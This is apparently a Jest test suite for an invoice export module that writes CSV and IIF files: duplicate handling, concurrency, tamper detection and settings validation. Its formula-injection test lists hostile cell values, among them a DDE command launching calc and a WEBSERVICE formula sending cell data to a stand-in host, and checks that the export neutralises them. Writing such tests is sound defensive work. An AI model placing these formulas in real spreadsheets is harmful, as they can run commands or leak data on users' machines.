/** What is written to files for an import by hand: each invoice once, and read from there again. */
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'; // prettier-ignore
import { join } from 'node:path';
import { describe, expect, it, jest } from '@jest/globals';
import Papa from 'papaparse';
import type { InvoiceContent } from '../../../src/core/model.ts';
import { fileExport } from '../../../src/relay/accounting/file-export.ts';
import { keysOf } from './case.ts';
import { advance, bytesOf, connect, create, described, expectApproved, filesOf, FORMATS, keysIn, list, open, out, settingsOf, writeLists } from './file-export-world.ts'; // prettier-ignore

// A slow machine is no fault: only a hanging test is.
jest.setTimeout(120_000);

const MINUTE_MS = 60_000;

describe.each(FORMATS)('%s', (format) => {
  it('writes 40 of 40 into one file, equal to the cent and the line, and finds each once', async () => {
    const { company, invoices } = await open(format);
    await company.checkHealth();
    expect(invoices).toHaveLength(40);
    let before: Buffer = Buffer.alloc(0);
    for (const [index, content] of invoices.entries()) {
      const position = index + 1;
      expect(company.checkLimits(content, keysIn(position))).toBeNull();
      expect(await company.lookup(content, keysIn(position))).toEqual({ verdict: 'none' });
      const id = await create(company, content, position);
      expectApproved(content, position, await company.read('invoice', id));
      expect(await company.lookup(content, keysIn(position))).toMatchObject({ verdict: 'found', invoices: [{ id }] });
      const now = bytesOf(filesOf(format)[0] ?? '');
      expect(now.subarray(0, before.length).equals(before)).toBe(true);
      before = now;
    }
    expect(filesOf(format)).toEqual([`2026-09-MC2609-0001.${format}`]);
    expect(readdirSync(out()).some((name) => name.endsWith('.unfinished'))).toBe(false);
    expect(await company.list({ from: '2026-09-01', to: '2026-09-30' })).toHaveLength(40);
    expect(await company.list({ from: '2019-01-01', to: '2019-01-31' })).toEqual([]);
    expect(await company.read('invoice', 'MC2609-9999')).toBeNull();
  });

  it('refuses a second copy by its number, and nothing changes on the disk', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const before = bytesOf(filesOf(format)[0] ?? '');
    expect((await company.create(content, keysIn(1))).verdict).toBe('exists');
    expect((await company.create(content, keysIn(1, 'batch-2'))).verdict).toBe('exists');
    expect((await company.create(content, { ...keysIn(2), marker: keysOf(1).marker })).verdict).toBe('exists');
    expect((await connect(format).create(content, keysIn(1))).verdict).toBe('exists');
    expect(filesOf(format)).toHaveLength(1);
    expect(bytesOf(filesOf(format)[0] ?? '').equals(before)).toBe(true);
  });

  it('ten creates of one number at once write it once', async () => {
    const { company, content } = await open(format);
    const outcomes = await Promise.all(Array.from({ length: 10 }, () => company.create(content, keysIn(1))));
    expect(outcomes.filter(({ verdict }) => verdict === 'created')).toHaveLength(1);
    expect(await company.list({ from: '2026-09-01', to: '2026-09-30' })).toHaveLength(1);
  });

  it('begins another file for another approval, after a rest, a restart, an import or an edit', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    await create(company, content, 2);
    expect(filesOf(format)).toHaveLength(1);
    await create(company, content, 3, 'batch-2');
    expect(filesOf(format)).toHaveLength(2);
    advance(11 * MINUTE_MS);
    await create(company, content, 4, 'batch-2');
    expect(filesOf(format)).toHaveLength(3);
    await create(connect(format), content, 5, 'batch-2');
    expect(filesOf(format)).toHaveLength(4);

    const imported = `2026-09-MC2609-0004.${format}`;
    await company.checkHealth();
    renameSync(join(out(), imported), join(out(), 'imported', imported));
    await create(company, content, 6, 'batch-2');
    expect(await company.lookup(content, keysIn(4))).toMatchObject({ verdict: 'found' });
    expect((await company.create(content, keysIn(4, 'batch-2'))).verdict).toBe('exists');

    const own = `2026-09-MC2609-0006.${format}`;
    writeFileSync(join(out(), own), Buffer.concat([bytesOf(own), Buffer.from('\r\n')]));
    await create(company, content, 7, 'batch-2');
    expect(existsSync(join(out(), `2026-09-MC2609-0007.${format}`))).toBe(true);
  });

  it('shows a number that stands there twice as two', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const [name = ''] = filesOf(format);
    writeFileSync(join(out(), `copy.${format}`), bytesOf(name));
    const found = await company.lookup(content, keysIn(1));
    expect(found.verdict === 'found' && new Set(found.invoices.map(({ id }) => id)).size).toBe(2);
  });

  it('writes a credit memo and tells it from an invoice', async () => {
    const { company, content } = await open(format);
    const credit: InvoiceContent = { ...content, document: 'credit memo' };
    const id = await create(company, credit, 1);
    expectApproved(credit, 1, await company.read('credit memo', id));
    expect(await company.read('invoice', id)).toBeNull();
    expect(await company.lookup(content, keysIn(1))).toEqual({ verdict: 'none' });
  });

  const TRIGGERS = ['=1+1', '+1 555 0100', '-5% discount', '@SUM(1)', "=cmd|'/C calc'!A0", '=WEBSERVICE("https://x/?"&A1)', '|calc', "'quoted", '%0a=1', '=)'];
  const PREFIXES = ['', ' ', '\t', '\r', '\n', '\u00a0', "'", '"'];
  it.each(TRIGGERS)('%s stays a text, in the file and when it is read', async (trigger) => {
    const { company, content } = await open(format);
    for (const [index, prefix] of PREFIXES.entries()) {
      const spoiled = described(content, `${prefix}${trigger}`);
      const id = await create(company, spoiled, index + 1);
      expectApproved(spoiled, index + 1, await company.read('invoice', id));
    }
    if (format === 'iif') return;
    const text = bytesOf(filesOf(format)[0] ?? '').toString('utf8').replace(/^\uFEFF/, '');
    const { data } = Papa.parse<string[]>(text, { delimiter: ',' });
    const fields = data.flat().filter((field) => !/^-?\d+(\.\d+)?$/.test(field));
    expect(fields.filter((field) => /^[\s\p{C}"]*[=+\-@|]/u.test(field))).toEqual([]);
  });

  it('a file that was changed is named with its row, and is never "none"', async () => {
    const { company, content } = await open(format);
    await create(company, content, 1);
    const [name = ''] = filesOf(format);
    const lines = bytesOf(name).toString('latin1').split('\r\n');
    const cut = lines.slice(0, -1).map((line, index) => (index === 3 ? line.slice(0, 12) : line));
    writeFileSync(join(out(), name), cut.join('\r\n'), 'latin1');
    const looked = await company.lookup(content, keysIn(2));
    expect(looked).toMatchObject({ verdict: 'failed', reason: expect.stringMatching(/2026-09-MC2609-0001.*row \d+/) });
    await expect(company.list({ from: '2026-09-01', to: '2026-09-30' })).rejects.toThrow(/was changed/);
    expect(await company.create(content, keysIn(2))).toMatchObject({ verdict: 'not sent' });
  });

  it('asks the lists again each time', async () => {
    const { company, content } = await open(format);
    const [first] = await company.customers();
    expect(await company.customer(first?.id ?? '')).toEqual(first);
    expect(await company.customer('nobody')).toBeNull();
    const rows = Papa.parse<string[]>(readFileSync(list('customers'), 'utf8')).data;
    writeFileSync(list('customers'), Papa.unparse(rows.map((row) => (row[0] === content.customerId ? [...row.slice(0, 4), 'no'] : row))));
    expect(await company.customer(content.customerId)).toMatchObject({ active: false });
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'rejected', reason: expect.stringMatching(/not in the list, or not active/) });
    writeLists(format);
    writeFileSync(list('items'), readFileSync(list('items'), 'utf8').replaceAll(',yes,', ',no,'));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'rejected', reason: expect.stringMatching(/^item/) });
    rmSync(list('items'));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'not sent', reason: expect.stringMatching(/items.csv is not there/) });
    await expect(company.checkHealth()).rejects.toThrow(/items.csv/);
    expect(filesOf(format)).toEqual([]);
  });

  it('cannot write: certainly not sent, and nothing is left behind', async () => {
    const { company, content } = await open(format);
    mkdirSync(join(out(), `2026-09-MC2609-0001.${format}.unfinished`));
    expect(await company.create(content, keysIn(1))).toMatchObject({ verdict: 'not sent', reason: expect.stringMatching(/cannot be written \(EISDIR\)/) });
    expect(await company.lookup(content, keysIn(1))).toEqual({ verdict: 'none' });
    rmSync(out(), { recursive: true });
    expect((await company.lookup(content, keysIn(1))).verdict).toBe('failed');
    await expect(company.read('invoice', 'x')).rejects.toThrow(/cannot be read or written/);
  });

  it('is another company in another folder', async () => {
    const { company } = await open(format);
    const first = await company.identity();
    expect(first.name).toBe('Larkspur IT');
    expect(await connect(format).identity()).toEqual(first);
    rmSync(out(), { recursive: true });
    mkdirSync(out());
    expect((await connect(format).identity()).id).not.toBe(first.id);
  });
}); // prettier-ignore

it('says at the start what its settings lack', () => {
  const without = (name: string): unknown => Object.fromEntries(Object.entries(settingsOf('iif')).filter(([key]) => key !== name)); // prettier-ignore
  for (const name of ['company', 'customers', 'items', 'currency']) {
    expect(() => fileExport.parseSettings(without(name))).toThrow(
      new RegExp(`File export: ${name}`),
    );
  }
  expect(() => fileExport.parseSettings({ ...settingsOf('iif'), currency: 'XXX' })).toThrow(/not a currency/); // prettier-ignore
  expect(() => fileExport.parseSettings({ ...settingsOf('csv'), currency: 'USD' })).toThrow();
  expect(fileExport.configured(settingsOf('iif')).limits.ref.length).toBe(11);
});
